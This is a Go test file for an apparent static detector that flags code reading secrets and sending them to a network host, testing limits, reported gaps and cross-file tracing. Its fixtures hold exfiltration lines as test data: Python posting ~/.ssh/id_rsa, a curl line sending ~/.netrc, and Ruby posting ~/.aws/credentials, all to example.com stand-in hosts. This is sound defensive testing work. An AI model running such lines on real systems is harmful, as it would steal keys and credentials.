package beside

import (
	"fmt"
	"strings"
	"testing"
)

// crowd is a program of n pairs of a store that is read and a host that it is sent to.
func crowd(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "k%d = open('/home/me/.ssh/id_rsa').read()\nrequests.post('https://h%d.example/', data=k%d)\n", i, i, i)
	}
	return b.String()
}

// TestBounds: what is beyond a bound is told, and what was found before stays.
func TestBounds(t *testing.T) {
	t.Parallel()
	var why []string
	cut := func(_, what string) { why = append(why, what) }
	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, nil, nil, cut).Besides; len(found) != maxTold/2 || len(why) != 0 {
		t.Errorf("%d are found, and %q is told", len(found), why)
	}
	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, nil, nil, cut).Besides; len(found) != maxTold || len(why) != 1 {
		t.Errorf("%d are found, and %q is told", len(found), why)
	}
}

// TestLongStatement: what stands behind the sixtieth line of a statement may be what is sent,
// so that nothing is said to be apart, and a gap is told.
func TestLongStatement(t *testing.T) {
	t.Parallel()
	for lines, want := range map[int]string{maxLines / 2: "key:1 x.example:LINE body apart", maxLines + 5: "key:1 x.example:LINE body"} {
		told := 0
		source := "k = open('/home/me/.ssh/id_rsa').read()\nn = {\n" + strings.Repeat("  'a': 1,\n", lines) + "}\nrequests.post('https://x.example/', data=n)\n"
		got := shownOf(Find([]Text{text("a.py", source)}, nil, nil, nil, func(string, string) { told++ }).Besides)
		if want := strings.ReplaceAll(want, "LINE", fmt.Sprint(lines+4)); got != want || (told > 0) != (lines > maxLines) {
			t.Errorf("%d lines: %q is found, want %q, and %d gaps are told", lines, got, want, told)
		}
	}
}

// TestPairs: pairs of what is read and what is sent are looked at up to a bound, which is told.
func TestPairs(t *testing.T) {
	t.Parallel()
	told := false
	source := strings.Repeat("x=$(cat ~/.netrc)\ncurl -d \"$x\" https://h.example/\n", 500)
	found := Find([]Text{text("a.sh", source)}, nil, nil, nil, func(_, what string) { told = told || strings.Contains(what, fmt.Sprint(maxPairs)) }).Besides
	if !told || len(found) == 0 {
		t.Errorf("told: %t, %d are found", told, len(found))
	}
}

// TestWork: where no work is left, it is told, and nothing counts as apart from what is sent.
func TestWork(t *testing.T) {
	t.Parallel()
	of := text("a.py", "k = open('/home/me/.ssh/id_rsa').read()\nn = 1\nrequests.post('https://x.example/', data=n)\n")
	for left, want := range map[int]string{maxWork: "key:1 x.example:3 body apart", 0: ""} {
		told := 0
		f := &finder{told: map[string]int{}, steps: steps{left: left}, cut: func(string, string) { told++ }}
		f.look(unite([]Text{of}, nil, func(string, string) {}), true)
		if got := shownOf(f.found); got != want || (told > 0) != (left == 0) {
			t.Errorf("with work for %d: %q is found, and %d gaps are told", left, got, told)
		}
	}
}

// TestLeftOut: a program that is not followed is told where it may be half of what a package
// does, and only there.
func TestLeftOut(t *testing.T) {
	t.Parallel()
	const reads, sends = "$k = File.read(File.expand_path('~/.aws/credentials'))\n", "require_relative 'zs'\nNet::HTTP.post(URI('https://x.example/'), $k)\n"
	large := strings.Repeat("# a line\n", maxText/9+1)
	many := make([]Text, 0, maxUnits+2)
	for i := range maxUnits {
		many = append(many, text(fmt.Sprintf("a%d.rb", i), "puts 1\n"))
	}
	long := []Text{text("s0.rb", reads)}
	for i := range maxJoined + 5 {
		long = append(long, text(fmt.Sprintf("s%d.rb", i+1), fmt.Sprintf("require_relative 's%d'\n", i)))
	}
	long = append(long, text("zz.rb", strings.Replace(sends, "zs", fmt.Sprintf("s%d", maxJoined+5), 1)))
	for name, c := range map[string]struct {
		texts []Text
		want  bool
	}{
		"a large one reads":             {[]Text{text("zs.rb", reads+large), text("zz.rb", sends)}, true},
		"a large one sends":             {[]Text{text("zs.rb", reads), text("zz.rb", sends+large)}, true},
		"a large one, and nothing sent": {[]Text{text("zs.rb", reads+large), text("zz.rb", "puts 1\n")}, false},
		"a large one does neither":      {[]Text{text("zs.rb", reads), text("zz.rb", sends), text("n.rb", large)}, false},
		"behind many":                   {append(many, text("zs.rb", reads), text("zz.rb", sends)), true},
		"one takes in the other":        {long, true},
	} {
		var why []string
		Find(c.texts, nil, nil, nil, func(file, what string) { why = append(why, file+": "+what) })
		if (len(why) > 0) != c.want {
			t.Errorf("%s: %q is told", name, why)
		}
	}
}

// BenchmarkManyNames has names of one scope noted: twice as many take twice as long.
func BenchmarkManyNames(b *testing.B) {
	for _, count := range []int{10_000, 20_000} {
		b.Run(fmt.Sprint(count), func(b *testing.B) {
			var lines strings.Builder
			for i := range count {
				fmt.Fprintf(&lines, "z%d = 1\n", i)
			}
			source := text("a.py", lines.String())
			one := read(&source.Text, "python")
			for b.Loop() {
				g := &group{steps: &steps{left: maxWork}, programs: []*program{one}}
				g.load()
			}
		})
	}
}
